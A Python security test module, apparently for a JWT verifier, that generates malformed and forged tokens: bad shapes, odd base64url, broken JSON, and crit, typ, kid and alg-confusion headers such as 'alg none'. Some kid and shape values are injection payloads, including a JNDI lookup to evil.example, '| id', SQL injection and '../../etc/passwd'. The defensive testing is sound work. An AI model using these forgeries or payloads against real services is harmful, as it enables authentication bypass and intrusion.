"""Attacks in how a token is written: its shape, its base64url, its JSON, what its header asks for."""

import base64
import hmac
import json
from collections.abc import Iterator

from tests.security.forge import SECRET, USER, Attack, Mint, b64, dump, spelled


def doubled(members: dict[str, object], name: str, value: object) -> bytes:
    """The members and, before them, `name` once more."""
    return (json.dumps({name: value})[:-1] + "," + json.dumps(members)[1:]).encode()


def nested(depth: int, opening: str = "[", closing: str = "]", core: str = "") -> str:
    return opening * depth + core + closing * depth


def padded_to(mint: Mint, size: int) -> str:
    """A good token of exactly `size` characters."""
    signature = len(b64(mint.sign(b"")))
    for header in (dump(mint.header) + b" " * spaces for spaces in range(4)):
        room = size - len(b64(header)) - signature - 2
        if room % 4 != 1:
            return mint.token(header, dump(mint.claims).ljust(room * 3 // 4))
    raise AssertionError(size)


def with_stray_bits(segment: str) -> str:
    """The same bytes in another spelling: the unused bits of the last character set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(segment) % 4 in (2, 3), segment
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) + 1]


def with_room(value: bytes) -> str:
    """base64url of JSON padded with spaces until its last character has unused bits."""
    return b64(value if len(value) % 3 else value + b" ")


def shapes(mint: Mint) -> Iterator[Attack]:
    token = mint.token()
    header, claims, signature = token.split(".")
    texts = {
        "empty": "",
        "one dot": ".",
        "two dots": "..",
        "three dots": "...",
        "letters": "a.b.c",
        "null": "null",
        "no signature": f"{header}.{claims}",
        "empty signature": f"{header}.{claims}.",
        "empty header": mint.seal("", claims),
        "empty claims": mint.seal(header, ""),
        "claims only": claims,
        "four parts": f"{token}.{signature}",
        "five parts, as JWE": f"{header}.{claims}.{signature}.AAAA.AAAA",
        "dot before": f".{token}",
        "dot after": f"{token}.",
        "two dots between": token.replace(".", "..", 1),
        "space before": f" {token}",
        "space after": f"{token} ",
        "newline after": f"{token}\n",
        "CRLF after": f"{token}\r\n",
        "tab inside": f"{header}.\t{claims}.{signature}",
        "newline inside": f"{header}\n.{claims}.{signature}",
        "newline in the signature": f"{header}.{claims}.{signature[:9]}\n{signature[9:]}",
        "NUL after": f"{token}\0",
        "NUL inside": f"{header}.{claims}\0.{signature}",
        "quoted": f'"{token}"',
        "Bearer twice": f"Bearer {token}",
        "two joined by a comma": f"{token},{token}",
        "fullwidth dots": token.replace(".", "\uff0e"),
        "encoded dots": token.replace(".", "%2E"),
        "fullwidth letter": token.replace("A", "\uff21").replace("e", "\uff45", 1),
        "Urdu letter": f"{header}\u0627.{claims}.{signature}",
        "combining mark": f"{token}\u0301",
        "zero width joiner": f"{header}\u200d.{claims}.{signature}",
        "byte order mark": f"\ufeff{token}",
        "lone surrogate": f"{token}\ud800",
        "emoji": f"{token}😀",
        "percent": f"{header}%.{claims}.{signature}",
        "8,193 characters": padded_to(mint, 8193),
        "a megabyte": token + "A" * 1_000_000,
        "opaque session token": USER,
        "session cookie": f"{USER}.{b64(b's' * 32)}",
        "signed session cookie": f"{USER}.{base64.b64encode(hmac.digest(SECRET, USER.encode(), 'sha256')).decode()}",
        "JSON serialisation": json.dumps({"protected": header, "payload": claims, "signature": signature}),
        "the claims bare": json.dumps(mint.claims),
        "SQL": "' OR 1=1 --.x.y",
        "path": "../../etc/passwd",
    }
    yield from texts.items()


def spellings(mint: Mint) -> Iterator[Attack]:
    header, claims, signature = mint.token().split(".")
    odd_header, odd_claims = with_room(dump(mint.header)), with_room(dump(mint.claims))
    slashed = dump(mint.claims | {"q": "???>>>~~~"})
    standard = base64.b64encode(slashed).rstrip(b"=").decode()
    assert {"+", "/"} & set(standard)
    yield "padded header", mint.seal(odd_header + "=" * (-len(odd_header) % 4), claims)
    yield "padded claims", mint.seal(header, odd_claims + "=" * (-len(odd_claims) % 4))
    yield "padded signature", f"{header}.{claims}.{signature}{'=' * (-len(signature) % 4)}"
    yield "one = too many", f"{header}.{claims}.{signature}====="
    yield "standard alphabet", mint.seal(header, standard)
    yield "stray bits in the header", mint.seal(with_stray_bits(odd_header), claims)
    yield "stray bits in the claims", mint.seal(header, with_stray_bits(odd_claims))
    yield "stray bits in the signature", f"{header}.{claims}.{with_stray_bits(signature)}"
    whole = dump(mint.claims) + b" " * (-len(dump(mint.claims)) % 3)
    yield "a lone last character", mint.seal(header, b64(whole) + "A")
    yield "claims in hexadecimal", mint.seal(header, dump(mint.claims).hex())
    yield "base64 twice", mint.seal(b64(header.encode()), b64(claims.encode()))


def json_faults(mint: Mint) -> Iterator[Attack]:
    for part, good in (("header", mint.header), ("claims", mint.claims)):
        first = next(iter(good))
        text = dump(good).decode()
        faults: dict[str, bytes] = {
            "list": dump([good]),
            "text": dump(text),
            "number": b"1",
            "null": b"null",
            "true": b"true",
            "broken": dump(text[:-1]),
            "cut": text[:-1].encode(),
            "trailing text": text.encode() + b"x",
            "two objects": text.encode() * 2,
            "trailing comma": text[:-1].encode() + b",}",
            "single quotes": text.replace('"', "'").encode(),
            "comment": b"/**/" + text.encode(),
            "byte order mark": b"\xef\xbb\xbf" + text.encode(),
            "UTF-16": text.encode("utf-16"),
            "UTF-32": text.encode("utf-32-be"),
            "not UTF-8": text.encode()[:-1] + b',"q":"\xff"}',
            "overlong UTF-8": text.encode()[:-1] + b',"q":"\xc0\x80"}',
            "NUL before": b"\0" + text.encode(),
            "control in a text": text.encode()[:-1] + b',"q":"\n"}',
            "NaN": spelled(good, q="NaN"),
            "Infinity": spelled(good, q="Infinity"),
            "-Infinity": spelled(good, q="-Infinity"),
            "member twice": doubled(good, first, "x"),
            "member twice, alike": doubled(good, first, good[first]),
            "member twice, escaped": text.encode()[:-1] + f',"\\u{ord(first[0]):04x}{first[1:]}":"x"}}'.encode(),
            "unknown member twice": text.encode()[:-1] + b',"q":1,"q":1}',
            "member twice, deeper": spelled(good, q='{"a":1,"a":1}'),
            "9 deep": spelled(good, q=nested(8)),
            "9 deep, objects": spelled(good, q=nested(8, '{"a":', "}", "1")),
            "1,000 deep": spelled(good, q=nested(1000)),
            "400 deep, objects": spelled(good, q=nested(400, '{"a":', "}", "1")),
            "1,000 deep, bare": nested(1000).encode(),
            "2,000 open": b"[" * 2000,
            "deep behind an escaped quote": spelled(good, p='"\\""', q=nested(1000)),
            "empty object": b"{}",
            "spaces": b"   ",
        }
        for name, raw in faults.items():
            yield f"{part}: {name}", mint.token(**{part: raw})


def headers(mint: Mint) -> Iterator[Attack]:
    for critical in ([], ["exp"], ["b64"], ["kid"], None, "exp", True):
        yield f"crit {critical}", mint.headed(crit=critical)
    for value in (False, True, None):
        yield f"b64 {value}", mint.headed(b64=value)
    yield "crit b64, b64 false", mint.headed(crit=["b64"], b64=False)
    kinds = (
        "JWE",
        "JOSE",
        "JOSE+JSON",
        "session",
        "id_token",
        "logout+jwt",
        "dpop+jwt",
        "secevent+jwt",
        "rt+jwt",
        "",
        "JWT ",
        "JWT\0",
        "jwt;x",
        "text/plain",
        None,
        1,
        True,
        ["JWT"],
        {"JWT": "JWT"},
    )
    for kind in kinds:
        yield f"typ {kind!r}", mint.headed(typ=kind)


def kids(mint: Mint) -> Iterator[Attack]:
    for kid in ("", None, 0, 1, True, ["k"], {"k": 1}, [], "k" * 129, "k" * 4000):
        yield f"kid {str(kid)[:20]!r} {type(kid).__name__}", mint.headed(kid=kid)
    if mint.jwk is None:
        return
    strange = (
        "unknown",
        mint.kid.upper(),
        f"{mint.kid} ",
        f"{mint.kid}\0",
        f"../{mint.kid}",
        "' OR '1'='1",
        "/dev/null",
        "../../../../../../dev/null",
        "https://evil.example/key.json",
        "| id",
        "${jndi:ldap://evil.example}",
        "__class__",
        "0",
        "*",
        "\ud800",
        "\u06a9\u0644\u06cc\u062f",
    )
    for kid in strange:
        yield f"kid {kid!r}", mint.headed(kid=kid)
    yield "no kid", mint.token(header={"alg": mint.alg})


def algorithms(mint: Mint) -> Iterator[Attack]:
    claims = b64(dump(mint.claims))
    others = (
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS512",
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "EdDSA",
        "Ed25519",
        "Ed448",
        "none",
        "None",
        "NONE",
        "nOnE",
        "none ",
        "",
        " ",
        "dir",
        "A128KW",
        "RSA1_5",
        "A256GCM",
        mint.alg.lower(),
        mint.alg.upper() + " ",
        f"{mint.alg}\0",
        mint.alg[:-1],
        f"{mint.alg},none",
        "*",
    )
    for alg in others:
        if alg != mint.alg:
            yield f"alg {alg!r}, truly signed", mint.headed(alg=alg)
    for alg in ("none", "None", "NONE", "nOnE", "", mint.alg):
        forged = f"{b64(dump(mint.header | {'alg': alg}))}.{claims}"
        yield f"alg {alg!r}, no signature", f"{forged}."
        yield f"alg {alg!r}, no third part", forged
        yield f"alg {alg!r}, one byte", f"{forged}.AA"
    for alg in (None, 0, True, [mint.alg], {"alg": mint.alg}):
        yield f"alg {alg!r} {type(alg).__name__}", mint.headed(alg=alg)
    yield "no alg", mint.token(header={"kid": mint.kid})
    yield "alg none before the true one", mint.token(header=doubled(mint.header, "alg", "none"))
    yield "ALG beside alg none", mint.headed(alg="none", ALG=mint.alg)
